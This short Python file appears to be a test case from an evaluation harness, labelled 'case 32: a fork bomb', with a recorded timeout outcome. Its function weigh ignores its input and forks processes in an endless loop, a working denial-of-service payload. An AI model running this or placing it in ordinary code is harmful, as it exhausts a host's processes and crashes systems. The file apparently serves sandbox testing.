# case 32: a fork bomb ends at the limit of processes, and with its scenario
# outcome: task 1 = candidate_error timeout
import os

from honest import fetch


def weigh(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            continue
